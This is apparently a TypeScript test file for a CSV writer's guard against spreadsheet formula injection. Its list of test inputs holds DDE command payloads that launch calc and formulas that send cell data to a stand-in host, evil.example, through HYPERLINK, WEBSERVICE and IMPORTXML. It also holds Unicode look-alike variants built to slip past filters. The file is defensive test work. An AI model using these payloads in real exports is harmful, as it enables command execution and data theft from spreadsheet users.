import { describe, expect, test } from "bun:test";
import { csvLine, harmless } from "./csv.ts";

/** Texts that spreadsheets compute, or that hide one from a filter that looks at the first character only. */
const attacks: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tplain",
  "\rplain",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  " =1+1",
  "\u00A0=1+1",
  "\u3000=1+1",
  "\uFEFF=1+1",
  "\u200B=1+1",
  "\u200E+1",
  "\u2060@A1",
  "\u00AD=1+1",
  "\v=1+1",
  "\f=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "﹦1+1",
  "﹢1",
  "﹣1",
  "﹫A1",
  "⁼1+1",
  "₌1+1",
  "⁺1",
  "₋1",
  "−1",
  "　＝1+1",
  "'=1+1\n=2",
  "x;=1+1",
  "x\t=1+1",
  "x\n=1+1",
  "x\r\n=1+1",
  "x; ＝1+1",
  "x|=1+1",
  '";=1+1;"',
  '",=1+1,"',
  '{"a":";=cmd|\' /C calc\'!A0"}',
];

/** The cells that a reader with this separator makes of a line: as spreadsheets read, quotes count at a cell's start only. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    let cell = "";
    if (line[at] === '"') {
      at += 1;
      while (at < line.length && !(line[at] === '"' && line[at + 1] !== '"')) {
        if (line[at] === '"') at += 1;
        cell += line[at++] ?? "";
      }
      at += 1;
    }
    while (at < line.length && line[at] !== separator) cell += line[at++] ?? "";
    cells.push(cell);
    at += 1;
  }
  return cells;
}

const begins = (cell: string) => /^[\s\p{Cf}\p{Cc}]*[=+\-@]/u.test(cell.normalize("NFKC").replaceAll("−", "-"));

describe(`[H6] ${attacks.length} texts that would be computed`, () => {
  test("are at least thirty, full-width spellings among them", () => {
    expect(attacks.length).toBeGreaterThanOrEqual(30);
    expect(attacks.filter((text) => text !== text.normalize("NFKC")).length).toBeGreaterThanOrEqual(10);
  });

  test.each(attacks.map((text) => [JSON.stringify(text), text] as const))("%s is none any more, whatever cuts the line", (_, text) => {
    const line = csvLine([1, text, "last"]);
    const read = cellsOf(line.slice(0, -2), ",");
    expect(read).toEqual(["1", harmless(text), "last"]);
    expect(read.filter(begins)).toEqual([]);
    for (const separator of [";", "\t", "|"])
      for (const piece of line.slice(0, -2).split(separator)) expect([separator, piece, begins(piece)]).toEqual([separator, piece, false]);
    for (const piece of harmless(text).split(/[\r\n]+/)) expect(begins(piece)).toBe(false);
  });

  test("and the guard is what does it: a line without it begins formulas", () =>
    expect(attacks.filter((text) => cellsOf(`1,"${text.replaceAll('"', '""')}"`, ",").some(begins)).length).toBeGreaterThan(30));
});

describe("[H6] lines of CSV", () => {
  test.each([
    [["a", "b"], '"a","b"\r\n'],
    [[1, undefined, true], "1,,true\r\n"],
    [["a,b", 'say "hi"', "two\nlines"], '"a,b","say ""hi""","two\nlines"\r\n'],
    [["7300000000000000001", ""], '"7300000000000000001",""\r\n'],
    [["秒杀 手机", "é"], '"秒杀 手机","é"\r\n'],
    [[{ atMs: 1_800_000_000_000 }, true], '"2027-01-15T08:00:00.000Z",true\r\n'],
    [[], "\r\n"],
  ] as const)("%j is %j", (cells, line) => expect(csvLine(cells)).toBe(line));

  test.each(["alice", "a-b", "a=b", "1+1", "mail@example.com", "Phone; 128 GB", '{"a":-1}', "'quoted'", "x | y"])(
    "what is harmless stays as it is: %s",
    (text) => expect(harmless(text)).toBe(text),
  );
});
